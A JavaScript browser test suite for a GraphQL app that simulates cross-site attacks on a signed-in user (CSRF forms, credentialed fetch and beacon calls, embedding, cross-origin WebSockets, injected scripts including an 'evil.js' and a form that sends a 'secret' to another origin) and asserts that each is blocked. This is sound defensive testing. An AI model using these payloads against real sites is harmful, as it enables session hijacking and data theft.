// What pages of other sites can do to somebody who is signed in, in a real browser (SEC-5): `npm test`.
//
// The same calls from our own page come last and do what they say, so that it is the origin that was refused.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { setStage } from './stage.mjs';

/// Needs no id, and shows at once that it ran.
const HARM = 'mutation { endSession(input: {}) { sessionId } }';
const LOOK = '{ viewer { email } }';
const STATE = `{ viewer { email sessions { id } memberships { teams { teamId } } }
  receivedRequests(first: 50) { edges { node { id status items { id state } } } } }`;
const SITES = ['another site', 'the same site'];

let stage;
before(async () => {
  stage = await setStage();
});
after(async () => stage?.stop());

const ask = (query) => `/graphql?${new URLSearchParams({ query })}`;

/// Somebody who has signed in, and a way to see what they have.
async function signIn() {
  const context = await stage.browser.newContext();
  await context.request.get(`${stage.base}/demo/ben`, { maxRedirects: 0 });
  const cookies = async () => (await context.cookies()).map(({ name, value }) => `${name}=${value}`).sort();
  const state = async () => {
    const cookie = (await cookies()).join('; ');
    const headers = { cookie, 'content-type': 'application/json' };
    const answer = await fetch(`${stage.base}/graphql`, { method: 'POST', headers, body: JSON.stringify({ query: STATE }) });
    return { cookie, answer: await answer.json() };
  };
  const signedIn = await state();
  assert.equal(signedIn.answer.data.viewer.email, 'ben@northwind.example');
  assert.ok(signedIn.answer.data.receivedRequests.edges.length > 0);
  return { context, state, close: () => context.close() };
}

/// Runs an attack from each origin of the attacker, in a fresh window of the victim's browser.
function attack(name, run) {
  for (const site of SITES) {
    test(`SEC-5: ${name}, from a page of ${site}`, async () => {
      const victim = await signIn();
      const prior = await victim.state();
      const page = await victim.context.newPage();
      await page.goto(stage.origins[site]);
      await run(page, victim);
      assert.deepEqual(await victim.state(), prior);
      await victim.close();
    });
  }
}

/// Statuses of the endpoint's answers to this page from now on.
function statuses(page) {
  const seen = [];
  page.on('response', (response) => {
    if (response.url().startsWith(`${stage.base}/graphql`)) seen.push(response.status());
  });
  return seen;
}

const FORMS = [
  { method: 'post', enctype: 'text/plain', field: [`{"query":${JSON.stringify(HARM)},"extensions":{"x":"`, '"}}'] },
  { method: 'post', enctype: 'application/x-www-form-urlencoded', field: ['query', HARM] },
  { method: 'post', enctype: 'multipart/form-data', field: ['query', HARM] },
  { method: 'get', enctype: 'text/plain', field: ['query', HARM] },
];

for (const form of FORMS) {
  attack(`a form by ${form.method} as ${form.enctype} changes nothing`, async (page) => {
    const answered = page.waitForResponse((response) => response.url().startsWith(`${stage.base}/graphql`));
    await page.evaluate(({ action, method, enctype, field: [name, value] }) => {
      const form = Object.assign(document.createElement('form'), { action, method, enctype });
      form.append(Object.assign(document.createElement('input'), { name, value }));
      document.body.append(form);
      form.submit();
    }, { ...form, action: `${stage.base}/graphql` });
    const status = (await answered).status();
    assert.ok([403, 405, 415].includes(status), String(status));
  });
}

attack('what embeds our addresses changes nothing and loads nothing', async (page) => {
  const paths = [
    ask(HARM), ask(LOOK), '/demo/olga', '/demo/dana', '/sign-in/x', '/i/x', '/mailbox', '/mailbox.json', '/graphiql', '/',
    '/requests/x', '/oauth/callback?state=x&error=access_denied', '/sandbox/authorize', '/readyz',
  ];
  const tags = { img: 'src', script: 'src', link: 'href', audio: 'src', embed: 'src' };
  for (const [tag, attribute] of Object.entries(tags)) {
    const loaded = await page.evaluate(async ([tag, attribute, addresses]) => {
      const load = (address) => new Promise((resolve) => {
        const element = document.createElement(tag);
        if (tag === 'link') element.rel = 'stylesheet';
        element.onload = () => resolve([address]);
        element.onloadeddata = element.onload;
        element.onerror = () => resolve([]);
        element[attribute] = address;
        document.body.append(element);
      });
      return (await Promise.all(addresses.map(load))).flat();
    }, [tag, attribute, paths.map((path) => stage.base + path)]);
    // The browser says of a refused `embed` that it loaded; frames have their own test.
    if (tag !== 'embed') assert.deepEqual(loaded, [], tag);
  }
});

attack('fetch and beacon with credentials change nothing and read nothing', async (page) => {
  const seen = statuses(page);
  const json = (query) => JSON.stringify({ query });
  const post = (mode, type, query) => ({ method: 'POST', mode, body: json(query), headers: type ? { 'content-type': type } : {} });
  const calls = [
    ['/graphql', post('cors', 'application/json', HARM)],
    ['/graphql', post('cors', 'application/json', LOOK)],
    ['/graphql', post('cors', 'text/plain', HARM)],
    ['/graphql', post('cors', '', LOOK)],
    ['/graphql', post('no-cors', 'text/plain', HARM)],
    ['/graphql', post('no-cors', 'application/json', HARM)],
    ['/graphql', post('no-cors', 'application/x-www-form-urlencoded', HARM)],
    [ask(HARM), { mode: 'no-cors' }],
    [ask(LOOK), { mode: 'cors' }],
    [ask(LOOK), { mode: 'cors', headers: { accept: 'text/event-stream' } }],
    ['/mailbox.json', { mode: 'cors' }],
    ['/demo/olga', { mode: 'no-cors' }],
    ['/', { mode: 'cors' }],
  ].map(([path, options]) => [stage.base + path, { ...options, credentials: 'include' }]);
  const read = await page.evaluate(async ([calls, beacon, body]) => {
    const read = async ([address, options]) => {
      try {
        const answer = await fetch(address, options);
        return answer.type === 'opaque' ? await answer.text() : `${address}: ${answer.type} ${await answer.text()}`;
      } catch {
        return '';
      }
    };
    navigator.sendBeacon(beacon, new Blob([body], { type: 'text/plain' }));
    return (await Promise.all(calls.map(read))).filter((text) => text !== '');
  }, [calls, `${stage.base}/graphql`, json(HARM)]);
  assert.deepEqual(read, []);
  assert.ok(seen.length > 0 && seen.every((status) => [403, 405, 415].includes(status)), String(seen));
});

attack('a WebSocket does not open', async (page) => {
  const events = await page.evaluate((address) => new Promise((resolve) => {
    const events = [];
    const socket = new WebSocket(address, 'graphql-transport-ws');
    socket.onopen = () => {
      events.push('open');
      socket.close();
    };
    socket.onmessage = () => events.push('message');
    socket.onclose = () => resolve(events);
  }), `${stage.base.replace('http:', 'ws:')}/graphql`);
  assert.deepEqual(events, []);
});

attack('no page of ours shows in a frame', async (page) => {
  /// Why the browser did not show an address in a frame; nothing where it did.
  const refused = async (address) => {
    const of = (request) => request.url() === address;
    const failed = page.waitForEvent('requestfailed', of).then((request) => request.failure().errorText);
    const shown = page.waitForEvent('requestfinished', of).then(() => undefined);
    const first = Promise.race([failed, shown]);
    await page.evaluate((src) => document.body.replaceChildren(Object.assign(document.createElement('iframe'), { src })), address);
    return first;
  };
  assert.equal(await refused(`${new URL(page.url()).origin}/own`), undefined, 'frames work');
  for (const path of [
    '/', '/graphiql', '/mailbox', '/mailbox.json', '/requests/x', '/i/x', '/oauth/callback', '/sandbox/about',
    '/sandbox/authorize', '/nothing', ask(LOOK),
  ]) {
    assert.equal(await refused(stage.base + path), 'net::ERR_BLOCKED_BY_RESPONSE', path);
  }
});

/// Opens a page with more HTML in it, as if somebody had found a way to put it there.
async function injected(path, withoutPolicy) {
  const context = await stage.browser.newContext();
  const page = await context.newPage();
  const evil = `${stage.origins['another site']}/evil.js`;
  const html = `<script>window.injected = 'inline'</script><img src="data:x" onerror="window.injected = 'handler'">
    <script src="${evil}"></script><script src="data:text/javascript,window.injected='data'"></script>
    <iframe srcdoc="<script>parent.injected='frame'</script>"></iframe>
    <form id="form" action="${stage.origins['another site']}/taken"><input name="secret"></form></body>`;
  await page.addInitScript(() => {
    window.blocked = [];
    document.addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.effectiveDirective));
  });
  await page.route(`${stage.base}${path}`, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    if (withoutPolicy) delete headers['content-security-policy'];
    const body = (await response.text()).replace('</body>', html);
    await route.fulfill({ response, headers, body });
  });
  await page.goto(`${stage.base}${path}`);
  const ran = await page.evaluate(() => window.injected);
  const form = await page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      if (event.effectiveDirective === 'form-action') resolve('blocked');
    });
    document.getElementById('form').submit();
  })).catch(() => 'sent');
  const blocked = form === 'sent' ? [] : await page.evaluate(() => window.blocked);
  await context.close();
  return { ran, form, blocked };
}

test('SEC-5: the policy of a page stops what was injected into it', async () => {
  for (const path of ['/', '/mailbox', '/requests/x', '/graphiql', '/nothing']) {
    const { ran, form, blocked } = await injected(path, false);
    assert.equal(ran, undefined, path);
    assert.equal(form, 'blocked', path);
    for (const directive of ['script-src-elem', 'script-src-attr']) assert.ok(blocked.includes(directive), `${path}: ${blocked}`);
  }
  const { ran, form } = await injected('/', true);
  assert.ok(ran, 'without the policy it runs');
  assert.equal(form, 'sent');
});

test('API-7, SEC-5: GraphiQL asks no other host and breaks no policy', async () => {
  const context = await stage.browser.newContext();
  const page = await context.newPage();
  const asked = [];
  const complaints = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('websocket', (socket) => asked.push(socket.url()));
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(String(error)));
  await page.goto(`${stage.base}/graphiql`);
  // GraphiQL forgets a press that comes before both of its editors are there.
  await page.locator('.result-window .monaco-editor').first().waitFor();
  await page.locator('.graphiql-editor .view-line').filter({ hasText: '__typename' }).waitFor();
  await page.getByRole('button', { name: /execute query/i }).click();
  await page.locator('.result-window').getByText('QueryRoot').or(page.locator('.result-window').getByText('Query')).first().waitFor();
  assert.deepEqual(complaints, []);
  const own = [`${stage.base}/`, `${stage.base.replace('http:', 'ws:')}/`, `blob:${stage.base}/`, 'data:'];
  assert.deepEqual(asked.filter((address) => !own.some((start) => address.startsWith(start))), []);
  assert.ok(asked.some((address) => address.endsWith('/graphql')) && asked.some((address) => address.includes('worker')), String(asked));
  await context.close();
});

test('SEC-5: our own page can do what the others could not', async () => {
  const victim = await signIn();
  const page = await victim.context.newPage();
  await page.goto(`${stage.base}/graphiql`);
  const address = `${stage.base}/graphql`;
  const opened = await page.evaluate((address) => new Promise((resolve) => {
    const socket = new WebSocket(address, 'graphql-transport-ws');
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }), address.replace('http:', 'ws:'));
  assert.ok(opened);
  const call = (query) => page.evaluate(async ([address, query]) => {
    const headers = { 'content-type': 'application/json' };
    return (await fetch(address, { method: 'POST', headers, body: JSON.stringify({ query }) })).json();
  }, [address, query]);
  assert.equal((await call(LOOK)).data.viewer.email, 'ben@northwind.example');
  assert.ok((await call(HARM)).data.endSession.sessionId);
  assert.equal((await call(LOOK)).data.viewer, null);
  await victim.close();
});
